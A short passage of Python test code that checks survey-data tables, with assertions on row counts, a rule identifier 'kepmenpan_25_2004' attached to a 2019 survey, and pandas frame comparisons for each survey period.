    assert len(kept.table) + kept.left_out == sum(women)
    whole = surveys.survey("2019")
    assert {part.rule.id for part in figures.under(whole, "kepmenpan_25_2004").parts} == {"kepmenpan_25_2004"}
    for part in whole.parts:
        pd.testing.assert_frame_equal(rows.released(whole).loc[part.period], rows.released(part), check_names=False)
